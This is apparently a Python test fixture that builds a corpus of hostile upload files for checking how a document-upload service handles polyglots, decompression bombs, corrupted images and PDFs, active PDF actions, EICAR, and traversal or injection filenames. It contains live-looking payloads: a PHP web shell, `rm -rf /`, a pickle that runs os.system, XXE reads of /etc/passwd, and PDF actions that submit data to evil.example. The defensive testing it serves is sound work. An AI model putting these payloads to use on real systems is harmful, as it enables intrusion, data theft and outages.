"""Files that mean harm, made on the spot and always the same: what an upload may have to bear.

`corpus()` yields (what it is, name, content); no two contents are the same.
"""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.accounts.papers.papers import heic

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
JS = "app.alert('hello')"


def corpus():
    for kind in (
        _polyglots,
        _bombs,
        _truncated,
        _flipped,
        _other_kinds,
        _active_pdfs,
        _broken_pdfs,
        _viruses,
        _tiny,
        _names,
    ):
        yield from kind()


# Good files to start from


def pdf(change=None, width=200, **options):
    document = pikepdf.new()
    document.add_blank_page(page_size=(width, 300))
    document.pages[0].Contents = document.make_stream(b"0 0 100 100 re f")
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **{"deterministic_id": "encryption" not in options, **options})
    return out.getvalue()


def picture(kind, size=(64, 48), mode="RGB", **options):
    out = io.BytesIO()
    noise = random.Random(7).randbytes(size[0] * size[1] * len(Image.new(mode, (1, 1)).getbands()))
    Image.frombytes(mode, size, noise).save(out, kind, **options)
    return out.getvalue()


def archive(name="evil.class"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(zipfile.ZipInfo(name), b"\xca\xfe\xba\xbe evil" * 20)
    return out.getvalue()


def zeros(megabytes):
    """A zlib stream of that many megabytes of zeros, small and quickly made."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = ((megabytes * 2**20 % 65521) << 16) | 1
    return b"\x78\xda" + block * megabytes + packer.flush(zlib.Z_FINISH) + struct.pack("!L", check)


def chunk(kind, body):
    return struct.pack("!L", len(body)) + kind + body + struct.pack("!L", zlib.crc32(kind + body))


def png(width, height, body, *, bits=8, colours=2, extra=b""):
    head = struct.pack("!LLBBBBB", width, height, bits, colours, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    return start + extra + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def with_comment(comment):
    """A JPEG whose first segment is a comment."""
    good = picture("JPEG")
    return good[:2] + b"\xff\xfe" + struct.pack("!H", len(comment) + 2) + comment + good[2:]


# Two kinds at once


def _polyglots():
    good = {"pdf": pdf(), "jpg": picture("JPEG"), "png": picture("PNG"), "heic": heic()}
    riders = {
        "zip": archive(),
        "jar": archive("META-INF/MANIFEST.MF"),
        "html": HTML,
        "php": PHP,
        "program": b"MZ\x90\x00" + bytes(200),
        "shell": b"\n#!/bin/sh\nrm -rf /\n",
    }
    for ending, content in good.items():
        for name, rider in riders.items():
            yield f"{ending} followed by {name}", f"paper.{ending}", content + rider
    for name, rider in riders.items():
        yield f"pdf after {name}", "paper.pdf", rider + pdf(width=210)
    yield "gif and jar", "paper.jpg", picture("GIF", mode="P") + archive()
    yield "gif and script", "paper.png", b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)"
    for name, rider in (*riders.items(), ("a PDF", pdf(width=220))):
        yield f"jpeg with {name} as its comment", "paper.jpg", with_comment(rider)
    yield "jpeg with html in its EXIF", "paper.jpg", picture("JPEG", exif=_exif(HTML))
    yield "jpeg with php in its EXIF", "paper.php.jpg", picture("JPEG", exif=_exif(PHP))
    for name, rider in (("php", PHP), ("html", HTML)):
        text = PngInfo()
        text.add_text("Comment", rider.decode())
        yield f"png with {name} as its text", "paper.png", picture("PNG", pnginfo=text)
    yield (
        "png with a zip in a chunk",
        "paper.png",
        png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"zIPc", archive())),
    )
    yield "jpeg with a colour profile", "paper.jpg", picture("JPEG", icc_profile=HTML * 50)
    yield "jpeg and its shortened copy", "paper.jpg", picture("JPEG") + picture("JPEG")[:300]


def _exif(text):
    exif = Image.Exif()
    exif[0x010E] = text.decode()
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}
    return exif


# Small files that unpack to large ones


def _bombs():
    for side in (5_001, 20_000, 60_000, 2**31 - 1):
        yield f"png of {side} squared", "paper.png", png(side, side, zeros(5))
    yield "png, 1 bit, wide", "paper.png", png(2**20, 2**10, zeros(128), bits=1, colours=0)
    yield "png that unpacks to more than it says", "paper.png", png(10, 10, zeros(300))
    yield "png of 25 million pixels", "paper.png", png(5_000, 5_000, zeros(72))
    yield "png of 25 million pixels with 16 bits", "p.png", png(5_000, 5_000, zeros(150), bits=16)
    for kind, head in ((b"zTXt", b"x\0\0"), (b"iCCP", b"x\0\0"), (b"iTXt", b"x\0\1\0\0\0")):
        extra = chunk(kind, head + zeros(300))
        yield (
            f"png with a bomb in {kind}",
            "paper.png",
            png(2, 2, zlib.compress(bytes(14)), extra=extra),
        )
    yield (
        "png with 20,000 chunks",
        "paper.png",
        png(2, 2, zlib.compress(bytes(14)), extra=chunk(b"teXt", b"a") * 20_000),
    )
    yield "jpeg that says 65,500 squared", "paper.jpg", _resized_jpeg(65_500)
    yield "jpeg that says 4,900 squared", "paper.jpg", _resized_jpeg(4_900)
    scans = picture("JPEG", progressive=True)
    last = scans.rindex(b"\xff\xda")
    yield "jpeg of 3,000 scans", "paper.jpg", scans[:-2] + scans[last:-2] * 3_000 + b"\xff\xd9"
    ispe = heic().index(b"ispe")
    for side in (16_000, 2**31 - 1):
        size = struct.pack("!LLL", 0, side, side)
        said = heic()[: ispe + 4] + size + heic()[ispe + 16 :]
        yield f"heic that says {side} squared", "paper.heic", said
    for name, megabytes, times in (("once", 160, 1), ("once, larger", 900, 1), ("twice", 900, 2)):
        packed = zeros(megabytes)
        filters = [Name.FlateDecode] * times
        for _ in range(times - 1):
            packed = zlib.compress(packed, 9)
        yield f"pdf whose page is packed {name}", "paper.pdf", _page_of(packed, filters)
    yield "pdf whose page is packed 40 times", "p.pdf", _page_of(*_packed_often(40))
    yield "pdf of runs", "paper.pdf", _page_of(b"\x81a" * 2_000_000 + b"\x80", Name.RunLengthDecode)
    yield "pdf with 50 bombs of 8 MB", "paper.pdf", pdf(_many_streams)
    yield "pdf of an object stream that is a bomb", "paper.pdf", _object_stream(zeros(400))
    yield "pdf with a picture of 10 to the 10 pixels", "paper.pdf", pdf(_huge_picture)
    yield "pdf of 5,000 pages", "paper.pdf", pdf(_many_pages)
    yield "pdf with 50,000 objects", "paper.pdf", pdf(_many_objects)


def _resized_jpeg(side):
    good = picture("JPEG")
    frame = good.index(b"\xff\xc0")
    return good[: frame + 5] + struct.pack("!HH", side, side) + good[frame + 9 :]


def _page_of(packed, filters):
    def change(document):
        stream = Stream(document, b"")
        stream.write(packed, filter=filters if isinstance(filters, Name) else Array(filters))
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _packed_often(times):
    packed = bytes(1000)
    for _ in range(times):
        packed = zlib.compress(packed)
    return packed, [Name.FlateDecode] * times


def _many_streams(document):
    packed = zeros(8)
    forms = Dictionary()
    for number in range(50):
        stream = Stream(document, b"")
        stream.write(packed, filter=Name.FlateDecode)
        stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, [0, 0, number, 1]
        forms[f"/X{number}"] = stream
    document.pages[0].Resources = Dictionary(XObject=forms)


def _many_pages(document):
    for _ in range(5_000):
        document.add_blank_page()


def _huge_picture(document):
    stream = Stream(document, b"\xff\xd8\xff\xd9")
    stream.Type, stream.Subtype, stream.Filter = Name.XObject, Name.Image, Name.DCTDecode
    stream.Width = stream.Height = 100_000
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceRGB, 8
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=stream))


def _many_objects(document):
    document.pages[0].Resources = Dictionary(
        Properties=Dictionary({f"/P{n}": document.make_indirect(Array([n])) for n in range(50_000)})
    )


def _object_stream(packed):
    body = b"%PDF-1.7\n"
    offset = len(body)
    head = b"<< /Type /ObjStm /N 2 /First 10 /Filter /FlateDecode /Length %d >>" % len(packed)
    body += b"3 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    start = len(body)
    rows = [(0, 0, 255), (2, 3, 0), (2, 3, 1), (1, offset, 0), (1, start, 0)]
    table = b"".join(struct.pack("!BLB", *row) for row in rows)
    cross = b"<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Length %d >>" % len(table)
    body += b"4 0 obj\n" + cross + b"\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % start


# Damaged


def _good():
    yield "paper.pdf", pdf(lambda d: [d.add_blank_page() for _ in range(5)], width=230)
    yield "paper.jpg", picture("JPEG", (160, 120))
    yield "paper.png", picture("PNG", (80, 60))
    yield "paper.heic", heic()


def _truncated():
    for name, content in _good():
        for share in (1, 10, 30, 50, 70, 90, 97, 99):
            cut = max(2, len(content) * share // 100)
            yield f"{name} cut at {share} %", name, content[:cut]


def _flipped():
    for name, content in _good():
        for seed in range(8):
            chance, damaged = random.Random(seed), bytearray(content)
            for _ in range(1 + seed):
                damaged[chance.randrange(8, len(damaged))] ^= 1 << chance.randrange(8)
            yield f"{name} with bits flipped, {seed}", name, bytes(damaged)


# Other kinds under our names


def _other_kinds():
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../etc/passwd"))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    )
    kinds = {
        "svg": svg,
        "svg with a declaration": b'<?xml version="1.0"?>\n' + svg,
        "svg, packed": gzip.compress(svg, mtime=0),
        "html": HTML,
        "html with a doctype": b"<!doctype html>" + HTML,
        "xml with an entity": entity,
        "tiff": picture("TIFF"),
        "webp": picture("WEBP"),
        "gif": picture("GIF", mode="P"),
        "bmp": picture("BMP"),
        "icon": picture("ICO"),
        "jpeg 2000": picture("JPEG2000"),
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(200),
        "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(200),
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "encapsulated postscript": b"\xc5\xd0\xd3\xc6" + bytes(60),
        "rtf": rb"{\rtf1 {\object\objdata 01}}",
        "word": archive("word/document.xml"),
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "zip": archive("a.txt"),
        "zip that leads upwards": archive("../../../evil.sh"),
        "tar": tar.getvalue(),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "windows program": b"MZ\x90\x00" + bytes(600),
        "linux program": b"\x7fELF\x02\x01\x01" + bytes(600),
        "java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60),
        "web assembly": b"\0asm\1\0\0\0",
        "flash": b"CWS\x09" + bytes(60),
        "shell script": b"#!/bin/sh\nid\n",
        "php": PHP,
        "python pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
        "csv with a formula": b'=cmd|" /C calc"!A0,1\n',
        "mail": b"From: a@b.example\nContent-Type: text/html\n\n" + HTML,
        "all zeros": bytes(5_000),
        "noise": random.Random(1).randbytes(5_000),
        "text that speaks of PDF": b"This is a %PDF-1.7 file, really.\n",
        "utf-16 html": HTML.decode().encode("utf-16"),
    }
    for number, (kind, content) in enumerate(kinds.items()):
        yield kind, ("paper.pdf", "paper.jpg", "paper.heic")[number % 3], content


# PDFs that do something


def _action(kind, **keys):
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **keys)


def _scripted():
    return _action("JavaScript", JS=String(JS))


def _annotation(subtype, **keys):
    def change(document):
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 50, 50], **keys
        )
        document.pages[0].Annots = Array([document.make_indirect(annotation)])

    return change


def _root(**keys):
    def change(document):
        for key, value in keys.items():
            document.Root[f"/{key}"] = value

    return change


def _page(**keys):
    def change(document):
        for key, value in keys.items():
            document.pages[0].obj[f"/{key}"] = value

    return change


def _file(document, content=b"evil", name="evil.exe"):
    return document.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String(name),
            EF=Dictionary(F=document.make_stream(content, Type=Name.EmbeddedFile)),
        )
    )


def _attached(content):
    def change(document):
        document.attachments["evil.pdf"] = content

    return change


def _form(**keys):
    def change(document):
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("number"),
                V=String("1234567"),
                DA=String("/Helv 12 Tf 0 g"),
                Rect=[10, 10, 90, 40],
                AA=Dictionary(K=_scripted()),
            )
        )
        document.pages[0].Annots = Array([field])
        form = {f"/{key}": value for key, value in keys.items()}
        document.Root.AcroForm = Dictionary({"/Fields": Array([field]), **form})

    return change


def _xfa(document):
    packet = document.make_stream(b"<xdp><script contentType='application/x-javascript'>1</script>")
    _form(XFA=packet)(document)


def _associated(document):
    document.Root.AF = Array([_file(document)])
    document.pages[0].AF = document.Root.AF


def _attachment_annotation(document):
    _annotation("FileAttachment", FS=_file(document))(document)


def _rich_media(document):
    assets = Dictionary(Names=Array([String("a.swf"), _file(document, name="a.swf")]))
    _annotation("RichMedia", RichMediaContent=Dictionary(Assets=assets))(document)


def _rendition(document):
    media = Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, D=_file(document)))
    _annotation("Screen", A=_action("Rendition", R=media, OP=0))(document)


def _outline(document):
    item = document.make_indirect(Dictionary(Title=String("x"), A=_scripted()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


def _metadata(document):
    document.Root.Metadata = document.make_stream(
        b"<x:xmpmeta>secret author</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML
    )
    document.docinfo["/Author"] = "secret author"
    document.pages[0].obj.PieceInfo = Dictionary(Evil=Dictionary(Private=String("secret author")))


def _outside_stream(document):
    stream = document.make_stream(b"", F=Dictionary(FS=Name.URL, F=String("http://evil.example/x")))
    document.pages[0].Contents = stream


def _reference(document):
    stream = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    stream.Ref = Dictionary(F=String("file:///etc/passwd"), Page=0)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=stream))


def _postscript(document):
    stream = document.make_stream(b"(x) run", Type=Name.XObject, Subtype=Name.PS)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=stream))


def _hidden_in_properties(document):
    document.pages[0].Resources = Dictionary(Properties=Dictionary(P=_scripted()))


def _active_pdfs():
    uri = _action("URI", URI=String("http://evil.example/"))
    child = _action("GoToE", T=Dictionary(R=Name.C))
    sent = _action("SubmitForm", F=String("http://evil.example/"))
    nested = pdf(_attached(pdf(_attached(pdf(_root(OpenAction=_scripted()))))))
    changes = {
        "a script on opening": _root(OpenAction=_scripted()),
        "a script among its names": _root(
            Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _scripted()])))
        ),
        "a script on closing": _root(AA=Dictionary(WC=_scripted())),
        "a script on a page": _page(AA=Dictionary(O=_scripted())),
        "a program to launch": _root(OpenAction=_action("Launch", F=String("cmd.exe"))),
        "a link": _annotation("Link", A=uri),
        "a link on opening": _root(OpenAction=uri),
        "a link to a share": _annotation("Link", A=_action("GoToR", F=String(r"\\evil\share"))),
        "a link into an attachment": _annotation("Link", A=child),
        "a form that is sent": _annotation("Widget", A=sent),
        "data that is fetched": _root(OpenAction=_action("ImportData", F=String("x.fdf"))),
        "a chain of actions": _root(OpenAction=_action("Named", N=Name.Print, Next=_scripted())),
        "a form with scripts": _form(CO=Array([])),
        "an XFA form": _xfa,
        "an attachment": _attached(b"evil"),
        "attachments in attachments": _attached(nested),
        "an attachment of 5 MB of zeros": _attached(bytes(5 * 2**20)),
        "an associated file": _associated,
        "an attachment as a pin": _attachment_annotation,
        "rich media": _rich_media,
        "a rendition": _rendition,
        "a sound": _annotation("Sound", Sound=Dictionary(R=8000)),
        "a film": _annotation("Movie", Movie=Dictionary(F=String("http://evil.example/a.avi"))),
        "a 3D model": _annotation("3D", **{"3DA": Dictionary(A=Name.PO)}),
        "an outline with a script": _outline,
        "metadata everywhere": _metadata,
        "a portfolio": _root(Collection=Dictionary(View=Name.D)),
        "content from elsewhere": _outside_stream,
        "a page of another document": _reference,
        "postscript": _postscript,
        "a script among its resources": _hidden_in_properties,
        "a base address": _root(URI=Dictionary(Base=String("http://evil.example/"))),
        "a presentation with actions": _page(PresSteps=Dictionary(NA=_scripted())),
        "permissions": _root(Perms=Dictionary(UR3=Dictionary(Type=Name.Sig))),
        "optional content": _root(OCProperties=Dictionary(OCGs=Array([]), D=Dictionary(A=uri))),
    }
    for number, (what, change) in enumerate(changes.items()):
        yield f"pdf with {what}", "paper.pdf", pdf(change, width=300 + number)
    packed = pikepdf.ObjectStreamMode.generate
    hidden = pdf(_root(OpenAction=_scripted()), width=290, object_stream_mode=packed)
    yield "pdf with a packed script", "paper.pdf", hidden
    plain = pdf(_root(OpenAction=_scripted()), width=291, object_stream_mode=packed)
    escaped = pdf(_root(OpenAction=_scripted()), width=292)
    yield "pdf with a packed script and a tail", "paper.pdf", plain + b"\n" + HTML
    yield "pdf with an escaped name", "p.pdf", escaped.replace(b"/JavaScript", b"/J#61v#61Script")
    yield "pdf with a script added later", "paper.pdf", _added_later()


def _added_later():
    """An incremental update that puts a script into the catalogue."""
    good = pdf(width=293, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = int(good.rsplit(b"startxref", 1)[1].split()[0])
    entry = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>\n"
    body = good + entry + b"endobj\n"
    table = b"xref\n1 1\n%010d 00000 n \n" % len(good)
    trailer = b"trailer << /Size 9 /Root 1 0 R /Prev %d >>\n" % start
    return body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)


# PDFs that lead a reader astray


def _raw_pdf(*objects, trailer=b""):
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1) + table
    return body + b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        trailer,
        start,
    )


def _broken_pdfs():
    root = b"<< /Type /Catalog /Pages 2 0 R >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    own_child = b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    yield "pdf whose pages are their own child", "paper.pdf", _raw_pdf(root, own_child)
    twins = [b"<< /Type /Pages /Count 9 /Kids [%s] >>" % (b"%d 0 R " % n * 9) for n in range(3, 12)]
    yield "pdf of 9 to the 9 pages", "paper.pdf", _raw_pdf(root, *twins, page)
    ring = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    back = b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    yield "pdf of pages in a ring", "paper.pdf", _raw_pdf(root, ring, back)
    deep = b"[" * 100_000 + b"]" * 100_000
    one = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    nested = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Deep %s >>"
    yield "pdf of nested arrays", "paper.pdf", _raw_pdf(root, one, nested % deep)
    deep = b"<</A" * 50_000 + b" 1" + b">>" * 50_000
    yield "pdf of nested dictionaries", "paper.pdf", _raw_pdf(root, one, nested % deep)
    yield "pdf that comes before itself", "p.pdf", _raw_pdf(root, one, page, trailer=b"/Prev 9")
    yield (
        "pdf that says more objects",
        "p.pdf",
        _raw_pdf(root, one, page).replace(b"/Size 4", b"/Size 2147483647"),
    )
    length = b"<< /Length 2147483647 >>\nstream\nx\nendstream"
    content = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    yield "pdf with a wrong length", "paper.pdf", _raw_pdf(root, one, content, length)
    itself = b"<< /Length 4 0 R >>\nstream\nx\nendstream"
    yield "pdf with itself as a length", "paper.pdf", _raw_pdf(root, one, content, itself)
    wide = page.replace(b"[0 0 9 9]", b"[0 0 1e38 -1e38]")
    yield "pdf with a page without end", "paper.pdf", _raw_pdf(root, one, wide)
    yield "pdf with a page that is none", "paper.pdf", _raw_pdf(root, one, b"(page)")
    yield "pdf with a root that is none", "paper.pdf", _raw_pdf(b"null", one, page)
    negative = one.replace(b"/Count 1", b"/Count -5")
    yield "pdf of minus five pages", "paper.pdf", _raw_pdf(root, negative, page)
    yield "pdf without a table", "paper.pdf", b"%PDF-1.4\n1 0 obj\n" + root + b"\nendobj\n"
    passwords = (("user", "user"), ("", "owner"))
    for number, (user, owner) in enumerate(passwords):
        for strength in (4, 6):
            lock = pikepdf.Encryption(user=user, owner=owner, R=strength)
            locked = pdf(width=400 + number * 10 + strength, encryption=lock)
            yield f"pdf with a password, {user or owner} {strength}", "paper.pdf", locked


def _viruses():
    yield "the test virus", "paper.pdf", EICAR
    yield "the test virus in a zip", "paper.pdf", archive() + EICAR
    yield "the test virus after a PDF", "paper.pdf", pdf(width=500) + EICAR
    yield "the test virus in a comment", "paper.jpg", with_comment(EICAR)
    text = PngInfo()
    text.add_text("Comment", EICAR.decode())
    yield "the test virus in a text", "paper.png", picture("PNG", pnginfo=text)
    yield "the test virus as an attachment", "paper.pdf", pdf(_attached(EICAR), width=501)


def _tiny():
    contents = (b"", b"%", b"\0", b"\xff", b"%PDF", b"%PDF-", b"%PDF-1.7\n%%EOF", b"\xff\xd8")
    contents += (b"\xff\xd8\xff", b"\xff\xd8\xff\xd9", b"\x89PNG\r\n\x1a\n", heic()[:24])
    for content in contents:
        yield f"only {content[:12]!r}", "paper.pdf", content


NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\paper.pdf",
    "/etc/cron.d/paper.pdf",
    "paper.pdf\0.exe",
    "paper\nContent-Type: text/html\n.pdf",
    "paper\r\nSet-Cookie: a=b.pdf",
    "paper\u202efdp.exe",
    "a" * 300 + ".pdf",
    "ä" * 300 + ".pdf",
    ".",
    "..",
    ".htaccess",
    "con.pdf",
    '"><script>alert(1)</script>.pdf',
    "'; DROP TABLE accounts_licencedocument; --.pdf",
    "paper.pdf;filename=evil.html",
    "{{ 7*7 }}{% debug %}.pdf",
    "=cmd|' /C calc'!A0.pdf",
    "paper.pdf.html",
    "\u200b\u200e\ufeff",
    "\U0001f4c4.pdf",
    " ",
)


def _names():
    for number, name in enumerate(NAMES):
        yield f"the name {name[:30]!r}", name, pdf(width=600 + number)
